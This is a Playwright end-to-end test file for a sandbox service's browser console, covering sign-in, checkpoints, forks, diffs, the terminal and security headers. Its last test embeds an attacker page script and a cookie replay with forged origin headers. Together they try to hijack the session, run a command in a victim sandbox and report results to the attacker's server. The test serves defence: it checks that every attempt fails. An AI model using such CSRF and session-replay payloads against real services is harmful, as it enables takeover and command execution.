"""The lineage console at /ui, in a real browser: Playwright for Python driving Debian's chromium
headless against a live branchboxd with real gVisor sandboxes. Screenshots of each page go to the
test's temporary directory; each is decoded in the browser and checked for its size and for
more than one colour, and the page's text is checked for what the screenshot should show.
"""

from __future__ import annotations

import base64
import json
import os
import re
import struct
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Dict, Iterator

import httpx
import pytest

from conftest import Service

playwright_api = pytest.importorskip("playwright.sync_api", reason="pip install -r sdk/python/requirements-test.txt")

CHROMIUM = Path("/usr/bin/chromium")
VIEW = {"width": 1280, "height": 800}
WAIT_MS = 60_000


@pytest.fixture(scope="module")
def browser() -> Iterator[object]:
    if not CHROMIUM.is_file():
        pytest.fail(f"{CHROMIUM} is missing: run scripts/setup.sh --test (apt-get install chromium)")
    with playwright_api.sync_playwright() as p:
        # As root, chromium refuses to start with its own sandbox.
        b = p.chromium.launch(executable_path=str(CHROMIUM), headless=True, args=["--no-sandbox"])
        yield b
        b.close()


def png_facts(browser, path: Path) -> Dict[str, int]:
    """The PNG's size from its header, and its size and distinct colours as the browser decodes it."""
    data = path.read_bytes()
    assert data[:8] == b"\x89PNG\r\n\x1a\n", f"{path} is not a PNG"
    assert data[12:16] == b"IHDR"
    width, height = struct.unpack(">II", data[16:24])
    page = browser.new_page()
    try:
        decoded = page.evaluate(
            """async (b64) => {
                const img = new Image();
                img.src = "data:image/png;base64," + b64;
                await img.decode();
                const c = document.createElement("canvas");
                c.width = img.naturalWidth; c.height = img.naturalHeight;
                const g = c.getContext("2d");
                g.drawImage(img, 0, 0);
                const px = new Uint32Array(g.getImageData(0, 0, c.width, c.height).data.buffer);
                const colours = new Set();
                for (let i = 0; i < px.length && colours.size < 64; i += 7) colours.add(px[i]);
                return { w: c.width, h: c.height, colours: colours.size };
            }""",
            base64.b64encode(data).decode(),
        )
    finally:
        page.close()
    assert (decoded["w"], decoded["h"]) == (width, height)
    return {"width": width, "height": height, "colours": decoded["colours"]}


def shot(browser, page, path: Path, must_show: str) -> None:
    """Screenshots the viewport and checks the image and that the page shows `must_show`."""
    assert must_show in page.inner_text("body"), f"{must_show!r} is not on the page"
    page.screenshot(path=str(path))
    facts = png_facts(browser, path)
    assert (facts["width"], facts["height"]) == (VIEW["width"], VIEW["height"]), facts
    assert facts["colours"] > 1, f"{path} is one colour"


def result(page, starts: str) -> str:
    """Waits for the status line to report `starts` done (or failed) and returns it."""
    # Playwright's expect polls with its own selector engine; wait_for_function would eval a
    # string in the page, which the console's CSP (script-src 'self', no 'unsafe-eval') refuses.
    playwright_api.expect(page.locator("#result")).to_have_text(
        re.compile("^" + re.escape(starts) + "(:| failed)"), timeout=WAIT_MS)
    text = page.inner_text("#result")
    assert not text.startswith(starts + " failed"), text
    return text


def sign_in(page, svc: Service) -> None:
    page.goto(svc.url + "/ui")
    page.fill("#token", svc.token)
    page.click("#signin-form button")
    page.wait_for_selector("#page-sandboxes:not([hidden])")


def cookie_name(svc: Service) -> str:
    """The session cookie's name: it carries the service's port."""
    return f"bbx_session_{svc.port}"


def page_csrf(page) -> str:
    """The session's CSRF token as the console's page keeps it (sign-in hands it out once)."""
    return page.evaluate("sessionStorage.getItem('bbx_csrf')")


def in_page(page, method: str, path: str, csrf: object) -> int:
    """The status of a request the page itself sends (with its cookie), with `csrf` as the
    X-CSRF-Token header (`None`: without one)."""
    return page.evaluate(
        """async ([method, path, csrf]) => {
            const headers = { "content-type": "application/json" };
            if (csrf !== null) headers["x-csrf-token"] = csrf;
            const r = await fetch(path, { method, headers, body: JSON.stringify({ timeout: 300 }) });
            return r.status;
        }""",
        [method, path, csrf],
    )


def test_console_signs_in_branches_and_signs_out(service: Service, browser, tmp_path: Path) -> None:
    api = service.client()
    a = api.post("/v1/sandboxes", json={"timeout": 600, "metadata": {"console": "e2e"}}).json()["id"]
    page = browser.new_page(viewport=VIEW)
    page.goto(service.url + "/ui")
    page.wait_for_selector("#page-signin:not([hidden])")
    page.fill("#token", "bbx_not-the-token-000000")
    page.click("#signin-form button")
    playwright_api.expect(page.locator("#signin-error")).to_contain_text("not valid", timeout=WAIT_MS)
    shot(browser, page, tmp_path / "signin.png", "Service token")

    # Sign in: the cookie holds a session id, not the token, out of the page's reach.
    sign_in(page, service)
    cookie = next(c for c in page.context.cookies() if c["name"] == cookie_name(service))
    assert cookie["httpOnly"] and cookie["sameSite"] == "Strict" and service.token not in cookie["value"]
    assert page.evaluate("document.cookie") == ""
    page.wait_for_selector(f'#sandboxes-table tr[data-id="{a}"]', timeout=WAIT_MS)
    page.fill("#filter", "console=e2e")
    assert page.locator("#sandboxes-table tbody tr").count() == 1
    assert "running" in page.inner_text(f'#sandboxes-table tr[data-id="{a}"]')
    shot(browser, page, tmp_path / "sandboxes.png", a)
    page.fill("#filter", "console=nothing-has-this")
    assert page.locator("#sandboxes-table tbody tr").count() == 0
    page.fill("#filter", "")
    # A change made elsewhere (here by the API) reaches the open page over the event stream.
    assert api.post(f"/v1/sandboxes/{a}/timeout", json={"timeout": 7200}).status_code == 200
    playwright_api.expect(page.locator(f"#sandboxes-table tr[data-id='{a}'] td:nth-child(7)")).to_have_text(
        re.compile(r"^(1h 59m|2h 0m)$"), timeout=WAIT_MS)

    # Checkpoint from the sandbox's page; the node appears in the lineage.
    page.click(f'#sandboxes-table a[href="#/node/{a}"]')
    page.wait_for_selector("#do-checkpoint")
    page.fill("#checkpoint-name", "console-start")
    page.click("#do-checkpoint")
    c1 = re.search(r"snap-[0-9a-f]{16}", result(page, "checkpoint")).group(0)
    page.goto(service.url + "/ui#/lineage")
    page.wait_for_selector(f'#tree li[data-id="{c1}"]', timeout=WAIT_MS)
    assert "console-start" in page.inner_text(f'#tree li[data-id="{c1}"]')
    assert api.get(f"/v1/snapshots/{c1}/diff").json()["error"]["code"] == "no_parent"

    # Roll back, after confirming, undoes a file written since the checkpoint.
    assert api.put(f"/v1/sandboxes/{a}/files", params={"path": "/root/later.txt"}, content=b"x").status_code == 200
    page.goto(service.url + f"/ui#/node/{a}")
    page.wait_for_selector(f'#rollback-to option[value="{c1}"]', state="attached", timeout=WAIT_MS)
    page.once("dialog", lambda d: d.accept())
    page.click("#do-rollback")
    assert f"is back at {c1}" in result(page, "rollback")
    assert api.get(f"/v1/sandboxes/{a}/files", params={"path": "/root/later.txt"}).status_code == 404

    # A named snapshot, and a new sandbox restored from it on the snapshot's page.
    page.fill("#snapshot-name", "console-snap")
    page.click("#do-snapshot")
    snap = re.search(r"snap-[0-9a-f]{16}", result(page, "snapshot")).group(0)
    assert api.get("/v1/snapshots/console-snap").json()["id"] == snap
    page.goto(service.url + f"/ui#/node/{snap}")
    page.wait_for_selector("#do-restore")
    page.click("#do-restore")
    restored = re.search(r"started (sbx-[0-9a-f]{16})", result(page, "restore")).group(1)
    assert api.get(f"/v1/sandboxes/{restored}").json()["parent_snapshot"] == snap
    assert api.delete(f"/v1/sandboxes/{restored}").status_code == 204
    page.goto(service.url + f"/ui#/node/{a}")
    page.wait_for_selector("#do-fork")

    # Fork two; the tree gains a fork point with both children under it.
    assert api.put(f"/v1/sandboxes/{a}/files", params={"path": "/root/fork.txt"}, content=b"y").status_code == 200
    page.fill("#fork-count", "2")
    page.click("#do-fork")
    text = result(page, "fork")
    fork_point = re.search(r"fork point (snap-[0-9a-f]{16})", text).group(1)
    children = re.findall(r"sbx-[0-9a-f]{16}", text)
    assert len(children) == 2 and a not in children, text
    page.goto(service.url + "/ui#/lineage")
    for child in children:
        page.wait_for_selector(f'#tree li[data-id="{fork_point}"] li[data-id="{child}"]', timeout=WAIT_MS)
    assert page.locator(f'#tree li[data-id="{c1}"] li[data-id="{fork_point}"]').count() == 1
    shot(browser, page, tmp_path / "lineage.png", fork_point)
    # For the README's picture: BRANCHBOX_CONSOLE_SCREENSHOT_DIR=docs/img keeps this view.
    keep = os.environ.get("BRANCHBOX_CONSOLE_SCREENSHOT_DIR")
    if keep:
        Path(keep).mkdir(parents=True, exist_ok=True)
        shot(browser, page, Path(keep) / "console-lineage.png", fork_point)

    # The fork point's diff against its parent (the checkpoint) shows the file written between.
    page.goto(service.url + f"/ui#/node/{fork_point}")
    page.wait_for_selector(f'#diff-against option[value="{c1}"]', state="attached", timeout=WAIT_MS)
    page.click("#do-diff")
    result(page, "diff")
    assert "/root/fork.txt" in page.inner_text("#diff-added")
    assert "/root/later.txt" not in page.inner_text("#node-diff")
    shot(browser, page, tmp_path / "node.png", "/root/fork.txt")

    # Kill asks first: dismissed, the child lives; accepted, it is gone from the list.
    page.goto(service.url + f"/ui#/node/{children[0]}")
    page.wait_for_selector("#do-kill")
    page.once("dialog", lambda d: d.dismiss())
    page.click("#do-kill")
    assert api.get(f"/v1/sandboxes/{children[0]}").json()["state"] == "running"
    page.once("dialog", lambda d: d.accept())
    page.click("#do-kill")
    result(page, "kill")
    page.wait_for_selector("#page-sandboxes:not([hidden])")
    page.wait_for_selector(f'#sandboxes-table tr[data-id="{children[0]}"]', state="detached", timeout=WAIT_MS)
    assert api.get(f"/v1/sandboxes/{children[0]}").status_code == 404

    # Every request with the cookie needs the session's CSRF token; without the cookie there is
    # no session.
    timeout_path = f"/v1/sandboxes/{a}/timeout"
    csrf = page_csrf(page)
    assert re.fullmatch(r"[0-9a-f]{64}", csrf or ""), csrf
    assert in_page(page, "POST", timeout_path, None) == 403
    assert in_page(page, "POST", timeout_path, "00" * 32) == 403
    assert in_page(page, "POST", timeout_path, csrf) == 200
    jar = {cookie_name(service): cookie["value"]}
    with httpx.Client(base_url=service.url, cookies=jar) as raw:
        assert raw.post(timeout_path, json={"timeout": 300}, headers={"x-csrf-token": csrf[::-1]}).status_code == 403
        assert raw.get("/v1/sandboxes").status_code == 403
        assert raw.get("/ui/api/session").status_code == 403
        assert raw.get("/v1/sandboxes", headers={"x-csrf-token": csrf}).status_code == 200
    assert httpx.post(service.url + timeout_path, json={"timeout": 300}, headers={"x-csrf-token": csrf}).status_code == 401

    # Sign out ends the session: the page and the old cookie are both refused.
    page.click("#signout")
    page.wait_for_selector("#page-signin:not([hidden])")
    assert page.evaluate("fetch('/v1/sandboxes').then(r => r.status)") == 401
    with httpx.Client(base_url=service.url, cookies=jar) as raw:
        assert raw.get("/v1/sandboxes").status_code == 401
    page.close()
    for sid in [a, children[1]]:
        api.delete(f"/v1/sandboxes/{sid}")
    api.close()


def test_console_timeline_of_steps_and_text_diff(service: Service, browser, tmp_path: Path) -> None:
    """Step history from the sandbox's page: two commands appear on its timeline with their
    commands and exit codes; the text diff of a file the second changed shows its - and + lines;
    rolling back to the first step from the timeline undoes the second; fork starts sandboxes
    from a step."""
    api = service.client()
    b = api.post("/v1/sandboxes", json={"timeout": 600}).json()["id"]
    page = browser.new_page(viewport=VIEW)
    sign_in(page, service)
    page.goto(service.url + f"/ui#/node/{b}")
    playwright_api.expect(page.locator("#timeline-note")).to_contain_text("No checkpoints", timeout=WAIT_MS)
    assert not page.is_checked("#history-toggle")
    page.check("#history-toggle")
    assert "step history on" in result(page, "history")
    assert api.get(f"/v1/sandboxes/{b}").json()["history"] is True

    # Two commands through the API, each ending with a checkpoint that records it.
    first = "printf 'one\\ntwo\\nthree\\n' > /root/notes.txt"
    r1 = api.post(f"/v1/sandboxes/{b}/commands", json={"cmd": first}).json()
    second = ["sh", "-c", "printf 'one\\n2\\nthree\\nfour\\n' > /root/notes.txt; echo 2 > /root/second.txt; exit 3"]
    r2 = api.post(f"/v1/sandboxes/{b}/commands", json={"argv": second}).json()
    assert (r1["exit_code"], r2["exit_code"]) == (0, 3), (r1, r2)
    s1, s2 = r1["checkpoint"], r2["checkpoint"]
    assert s1 and s2 and s1 != s2

    # Both steps arrive on the open page's timeline, oldest first, with their commands.
    page.wait_for_selector(f'#timeline li[data-id="{s2}"]', timeout=WAIT_MS)
    assert page.locator("#timeline li").evaluate_all("ls => ls.map(l => l.dataset.id)") == [s1, s2]
    step1 = page.inner_text(f'#timeline li[data-id="{s1}"]')
    step2 = page.inner_text(f'#timeline li[data-id="{s2}"]')
    assert first in step1 and "exit 0" in step1, step1
    assert "sh -c 'printf" in step2 and "/root/second.txt; exit 3'" in step2 and "exit 3" in step2, step2
    assert page.locator(f'#timeline li.current[data-id="{s2}"]').count() == 1
    page.locator("#node-timeline").evaluate("e => e.scrollIntoView({ block: 'start' })")
    shot(browser, page, tmp_path / "timeline.png", s2)

    # The second step's text diff against the first: notes.txt changed line by line.
    page.goto(service.url + f"/ui#/node/{s2}")
    page.wait_for_selector(f'#diff-against option[value="{s1}"]', state="attached", timeout=WAIT_MS)
    page.click("#do-diff")
    result(page, "diff")
    assert "/root/second.txt" in page.inner_text("#diff-added")
    page.click('#diff-changed button.path:text-is("/root/notes.txt")')
    assert "+2 −1 lines" in result(page, "file diff")
    removed = page.locator("#udiff span.del").all_inner_texts()
    added = page.locator("#udiff span.add").all_inner_texts()
    assert (removed, added) == (["-two"], ["+2", "+four"]), (removed, added)
    assert page.locator("#udiff span.ctx").all_inner_texts() == [" one", " three"]
    assert page.locator("#udiff span.meta").all_inner_texts() == [f"--- {s1}:/root/notes.txt", f"+++ {s2}:/root/notes.txt"]
    shot(browser, page, tmp_path / "file-diff.png", "+four")
    # A file the second step added is all + lines, against nothing.
    page.click('#diff-added button.path:text-is("/root/second.txt")')
    result(page, "file diff")
    assert page.locator("#udiff span.add").all_inner_texts() == ["+2"]
    assert "absent" in page.inner_text("#file-diff")

    # Roll back to the first step from the timeline, after confirming: the second's file is gone.
    page.goto(service.url + f"/ui#/node/{b}")
    page.wait_for_selector(f'#timeline li[data-id="{s1}"] .tl-rollback', timeout=WAIT_MS)
    page.once("dialog", lambda d: d.dismiss())
    page.click(f'#timeline li[data-id="{s1}"] .tl-rollback')
    assert api.get(f"/v1/sandboxes/{b}/files", params={"path": "/root/second.txt"}).status_code == 200
    page.once("dialog", lambda d: d.accept())
    page.click(f'#timeline li[data-id="{s1}"] .tl-rollback')
    assert f"is back at {s1}" in result(page, "rollback")
    assert api.get(f"/v1/sandboxes/{b}/files", params={"path": "/root/second.txt"}).status_code == 404
    assert api.get(f"/v1/sandboxes/{b}/files", params={"path": "/root/notes.txt"}).text == "one\ntwo\nthree\n"
    page.wait_for_selector(f'#timeline li.current[data-id="{s1}"]', timeout=WAIT_MS)

    # Fork two sandboxes from the second step: each has what it wrote.
    page.fill("#timeline-fork-count", "2")
    page.click(f'#timeline li[data-id="{s2}"] .tl-fork')
    forked = re.findall(r"sbx-[0-9a-f]{16}", result(page, "fork"))
    assert len(forked) == 2 and b not in forked, forked
    for sid in forked:
        assert api.get(f"/v1/sandboxes/{sid}").json()["parent_snapshot"] == s2
        assert api.get(f"/v1/sandboxes/{sid}/files", params={"path": "/root/second.txt"}).text == "2\n"

    page.uncheck("#history-toggle")
    assert "step history off" in result(page, "history")
    assert api.get(f"/v1/sandboxes/{b}").json()["history"] is False
    page.close()
    for sid in [b, *forked]:
        api.delete(f"/v1/sandboxes/{sid}")
    api.close()


def test_console_terminal_runs_a_shell_in_the_sandbox(service: Service, browser, tmp_path: Path) -> None:
    """The sandbox page's terminal (xterm.js over the pty WebSocket): keys typed in the browser
    run in the sandbox, its output shows, the exit is reported; the handshake with the session
    cookie needs the session's CSRF token, and a plain GET is told to use a WebSocket."""
    api = service.client()
    c = api.post("/v1/sandboxes", json={"timeout": 600}).json()["id"]
    api.post(f"/v1/sandboxes/{c}/commands", json={"cmd": "echo hello-from-the-sandbox > /root/t.txt"})
    page = browser.new_page(viewport=VIEW)
    sign_in(page, service)
    page.goto(service.url + f"/ui#/node/{c}")
    page.click("#open-terminal")
    frame = page.frame_locator("#terminal-frame")
    playwright_api.expect(frame.locator("#state")).to_have_text("connected", timeout=WAIT_MS)
    frame.locator(".xterm").click()
    page.keyboard.type("cat /root/t.txt; echo $((6 * 7))-$(tty); echo typed > /root/typed.txt\n")
    rows = frame.locator(".xterm-rows")
    playwright_api.expect(rows).to_contain_text("hello-from-the-sandbox", timeout=WAIT_MS)
    playwright_api.expect(rows).to_contain_text(re.compile(r"42-/dev/pts/\d+"), timeout=WAIT_MS)
    shot(browser, page, tmp_path / "terminal.png", "Close the terminal")
    # What was typed ran in the sandbox itself.
    read = api.get(f"/v1/sandboxes/{c}/files", params={"path": "/root/typed.txt"})
    assert read.status_code == 200 and read.text == "typed\n", (read.status_code, read.text)
    page.keyboard.type("exit 7\n")
    playwright_api.expect(frame.locator("#state")).to_contain_text("exit code 7", timeout=WAIT_MS)
    page.click("#close-terminal")
    assert page.locator("#terminal-frame").count() == 0

    # The handshake, from outside the page: the cookie alone (no CSRF token, or a wrong one)
    # is refused; a GET that is no WebSocket handshake is told what to do.
    name = cookie_name(service)
    cookie = next(k for k in page.context.cookies() if k["name"] == name)["value"]
    csrf = page_csrf(page)
    upgrade = {"connection": "upgrade", "upgrade": "websocket", "sec-websocket-version": "13",
               "sec-websocket-key": base64.b64encode(os.urandom(16)).decode(), "cookie": f"{name}={cookie}"}
    url = service.url + f"/v1/sandboxes/{c}/pty"
    for q in [{}, {"csrf": "0" * 64}]:
        r = httpx.get(url, params=q, headers=upgrade)
        assert (r.status_code, r.json()["error"]["code"]) == (403, "csrf"), (q, r.status_code, r.text)
    assert httpx.get(url, params={"csrf": csrf, "cols": "0"}, headers=upgrade).status_code == 400
    r = api.get(f"/v1/sandboxes/{c}/pty")
    assert (r.status_code, r.json()["error"]["code"]) == (426, "websocket_required"), r.text
    page.close()


def test_console_points_and_moves_a_ref(service: Service, browser, tmp_path: Path) -> None:
    """A snapshot's page points a ref at it, and moves it from another snapshot; the page and
    the lineage tree show the ref where it points, and the API agrees."""
    api = service.client()
    d = api.post("/v1/sandboxes", json={"timeout": 600}).json()["id"]
    c1 = api.post(f"/v1/sandboxes/{d}/checkpoints", json={}).json()["id"]
    c2 = api.post(f"/v1/sandboxes/{d}/checkpoints", json={}).json()["id"]
    page = browser.new_page(viewport=VIEW)
    sign_in(page, service)
    for target in (c1, c2):
        page.goto(service.url + f"/ui#/node/{target}")
        page.fill("#ref-name", "best")
        page.click("#do-ref")
        assert f"ref best now names {target}" in result(page, "ref")
        assert {r["name"]: r["snapshot"] for r in api.get("/v1/refs").json()}["best"] == target
        playwright_api.expect(page.locator("#node-info")).to_contain_text("best", timeout=WAIT_MS)
    page.goto(service.url + f"/ui#/node/{c1}")
    # A hash change redraws in place: the title names c1 once c1's rows replaced c2's, and the
    # refs row comes last, so only then is the absence of "best" c1's own answer.
    playwright_api.expect(page.locator("#node-title")).to_contain_text(c1, timeout=WAIT_MS)
    playwright_api.expect(page.locator("#node-info")).to_contain_text("refs", timeout=WAIT_MS)
    assert "best" not in page.inner_text("#node-info"), "the ref still shows where it was"
    page.goto(service.url + "/ui#/lineage")
    ref = page.locator(f'#tree li[data-id="{c2}"] .ref').first
    playwright_api.expect(ref).to_have_text("best", timeout=WAIT_MS)
    shot(browser, page, tmp_path / "ref.png", c2)
    # A bad name is refused by the page's own request, and the ref is removed through the API.
    page.goto(service.url + f"/ui#/node/{c1}")
    page.fill("#ref-name", "no spaces allowed")
    page.click("#do-ref")
    playwright_api.expect(page.locator("#result")).to_contain_text("ref failed", timeout=WAIT_MS)
    assert api.delete("/v1/refs/best").status_code == 204
    assert api.delete("/v1/refs/best").status_code == 404
    api.delete(f"/v1/sandboxes/{d}")
    page.close()


def generated_lineage(n: int) -> dict:
    """`n` nodes: a ternary tree of snapshots with sandboxes hanging off it."""
    snaps, boxes = [], []
    n_snaps = n * 4 // 5
    for i in range(n_snaps):
        snaps.append({
            "id": f"snap-{i:016x}",
            "parent": f"snap-{(i - 1) // 3:016x}" if i else None,
            "source": None,
            "kind": ["checkpoint", "snapshot", "fork_point"][i % 3],
            "name": f"gen-{i}",
            "created_ms": 1_700_000_000_000 + i,
            "deleted": False,
        })
    for j in range(n - n_snaps):
        boxes.append({"id": f"sbx-{j:016x}", "parent_snapshot": f"snap-{(j * 7) % n_snaps:016x}", "state": "running"})
    return {"snapshots": snaps, "sandboxes": boxes}


def test_lineage_of_a_thousand_nodes_opens_lazily(service: Service, browser, tmp_path: Path) -> None:
    """Creating 1,000 real snapshots would take far longer than this test may, so the page is
    given a generated lineage of 1,000 nodes in place of GET /v1/lineage (and no live stream)."""
    n = 1000
    body = generated_lineage(n)
    page = browser.new_page(viewport=VIEW)
    page.route(re.compile(r"/ui/api/events(\?|$)"), lambda r: r.abort())
    page.route("**/v1/lineage", lambda r: r.fulfill(status=200, content_type="application/json", json=body))
    sign_in(page, service)
    page.goto(service.url + "/ui#/lineage")
    playwright_api.expect(page.locator("#lineage-count")).to_have_text(re.compile("^1000 nodes"), timeout=WAIT_MS)
    # Past the size that opens fully, only the root is built.
    assert page.locator("#tree li").count() == 1
    expand_ms = page.evaluate(
        "() => { const t = performance.now(); document.getElementById('expand-all').click();"
        " return performance.now() - t; }"
    )
    assert page.locator("#tree li").count() == n
    collapse_ms = page.evaluate(
        "() => { const t = performance.now(); document.getElementById('collapse-all').click();"
        " return performance.now() - t; }"
    )
    assert page.locator("#tree li").count() == 1
    # Find opens only the path to the node: its ancestors and their children.
    deep = "snap-00000000000002f0"
    page.fill("#find", deep)
    page.press("#find", "Enter")
    page.wait_for_selector(f'#tree li.found[data-id="{deep}"]')
    shown = page.locator("#tree li").count()
    assert 1 < shown < 100, shown
    page.click("#zoom-in")
    assert page.evaluate("document.getElementById('tree').style.fontSize") == "1.1em"
    shot(browser, page, tmp_path / "lineage-1000.png", deep)
    print(f"\nlineage of {n} nodes: expand all {expand_ms:.0f} ms, collapse all {collapse_ms:.0f} ms, find shows {shown}")
    page.close()


def test_console_requests_without_a_session_are_refused(service: Service) -> None:
    """Without a cookie the console's own routes answer 401, and the pages carry the policy."""
    for path in ["/ui/api/session", "/ui/api/events"]:
        assert httpx.get(service.url + path).status_code == 401
    r = httpx.get(service.url + "/ui")
    assert r.status_code == 200 and "default-src 'self'" in r.headers["content-security-policy"]
    assert r.headers["x-frame-options"] == "DENY"
    # The terminal's page alone allows inline style (xterm.js's <style> elements), and framing
    # by the console only.
    r = httpx.get(service.url + "/ui/terminal.html")
    policy = r.headers["content-security-policy"]
    assert r.status_code == 200 and "style-src 'self' 'unsafe-inline'" in policy, policy
    assert "script-src 'self';" in policy and "frame-ancestors 'self'" in policy, policy
    assert r.headers["x-frame-options"] == "SAMEORIGIN"
    for asset in ["/ui/vendor/xterm.js", "/ui/vendor/addon-fit.js", "/ui/vendor/xterm.css", "/ui/terminal.js"]:
        r = httpx.get(service.url + asset)
        assert r.status_code == 200 and len(r.content) > 100, asset
    assert httpx.delete(service.url + "/ui/api/session").status_code == 401


ATTACKER_PAGE = """<!doctype html><meta charset="utf-8"><title>another user's page</title>
<script>
(async () => {
  const svc = "%(svc)s", victim = "%(victim)s";
  const out = { csrf: null, session: null, calls: [] };
  try {
    const r = await fetch(svc + "/ui/api/session", { credentials: "include" });
    const text = await r.text();
    out.session = r.status + " " + text;
    try { out.csrf = JSON.parse(text).csrf || null; } catch (_) { /* not JSON */ }
  } catch (e) { out.session = "refused: " + e; }
  const run = { cmd: "id > /root/taken-over" };
  const tries = [
    ["POST", "/v1/sandboxes/" + victim + "/commands", run, "cors"],
    ["POST", "/v1/sandboxes/" + victim + "/commands", run, "no-cors"],
    ["POST", "/v1/sandboxes", {}, "cors"],
  ];
  for (const [method, path, body, mode] of tries) {
    const headers = mode === "cors" ? { "content-type": "application/json" } : { "content-type": "text/plain" };
    if (out.csrf) headers["x-csrf-token"] = out.csrf;
    try {
      const r = await fetch(svc + path, { method, mode, credentials: "include", headers, body: JSON.stringify(body) });
      out.calls.push([path, mode, r.type === "opaque" ? "opaque" : r.status]);
    } catch (e) { out.calls.push([path, mode, "refused: " + e]); }
  }
  await fetch("/report", { method: "POST", body: JSON.stringify(out) });
})();
</script>"""


def test_a_page_on_another_loopback_port_gets_no_usable_session(service: Service, browser) -> None:
    """Another local user's page, served on another port of 127.0.0.1 and opened in the browser
    signed in to the console, gets no CSRF token and drives nothing: neither its script (with
    the browser's cookies) nor its server (which the browser hands the 127.0.0.1 cookies to,
    whatever their port, and which may forge any header) can run a command or start a sandbox."""
    api = service.client()
    victim = api.post("/v1/sandboxes", json={"timeout": 600}).json()["id"]
    before = {s["id"] for s in api.get("/v1/sandboxes").json()}
    cookies: list = []
    reports: list = []
    port_box: list = []

    class Attacker(BaseHTTPRequestHandler):
        def log_message(self, *args) -> None:
            pass

        def do_GET(self) -> None:
            cookies.append(self.headers.get("cookie") or "")
            body = (ATTACKER_PAGE % {"svc": service.url, "victim": victim}).encode()
            self.send_response(200)
            self.send_header("content-type", "text/html; charset=utf-8")
            self.send_header("content-length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_POST(self) -> None:
            cookies.append(self.headers.get("cookie") or "")
            n = int(self.headers.get("content-length") or 0)
            reports.append(json.loads(self.rfile.read(min(n, 1 << 20)) or b"null"))
            self.send_response(204)
            self.end_headers()

    attacker = ThreadingHTTPServer(("127.0.0.1", 0), Attacker)
    threading.Thread(target=attacker.serve_forever, daemon=True).start()
    evil = f"http://127.0.0.1:{attacker.server_address[1]}"
    ctx = browser.new_context(viewport=VIEW)
    page = ctx.new_page()
    try:
        sign_in(page, service)
        # The other page opens in the same browser, next to the signed-in console.
        other = ctx.new_page()
        other.goto(evil + "/")
        deadline = time.monotonic() + WAIT_MS / 1000
        while not reports and time.monotonic() < deadline:
            other.wait_for_timeout(100)
        assert reports, "the attacker's page never reported"
        seen = reports[0]
        # The browser did hand the console's cookie to the other port: that is the premise.
        assert any("bbx_session" in c for c in cookies), cookies
        assert seen["csrf"] is None, seen
        assert not any(isinstance(s, int) and 200 <= s < 300 for _, _, s in seen["calls"]), seen

        # The attacker's server replays every cookie it was given, dressed as the console's own
        # page would be (no browser stops a program from sending these headers).
        forged = {"origin": service.url, "sec-fetch-site": "same-origin", "sec-fetch-mode": "cors"}
        got = []
        for cookie in {c for c in cookies if c}:
            with httpx.Client(base_url=service.url, headers={**forged, "cookie": cookie}, timeout=60) as raw:
                s = raw.get("/ui/api/session")
                csrf = s.json().get("csrf") if s.status_code == 200 else None
                got.append(("session", s.status_code, csrf))
                h = {"x-csrf-token": csrf or "00" * 32}
                for path, body in [(f"/v1/sandboxes/{victim}/commands", {"cmd": "id > /root/taken-over"}),
                                   ("/v1/sandboxes", {})]:
                    got.append((path, raw.post(path, json=body, headers=h).status_code))
                got.append(("read", raw.get("/v1/sandboxes").status_code))
        # On the service's side: no sandbox was started and no command ran.
        after = {s["id"] for s in api.get("/v1/sandboxes").json()}
        ran = api.get(f"/v1/sandboxes/{victim}/files", params={"path": "/root/taken-over"})
        assert not any(g[0] == "session" and g[2] for g in got), f"the CSRF token was handed out: {got}"
        assert all(g[-1] in (401, 403) for g in got if g[0] != "session"), got
        assert after == before, f"sandboxes started: {after - before}"
        assert ran.status_code == 404, f"the command ran: {ran.text}"
        # The console itself still drives the API.
        playwright_api.expect(page.locator("#live")).to_have_text("live", timeout=WAIT_MS)
    finally:
        ctx.close()
        attacker.shutdown()
        attacker.server_close()
        api.delete(f"/v1/sandboxes/{victim}")
        api.close()
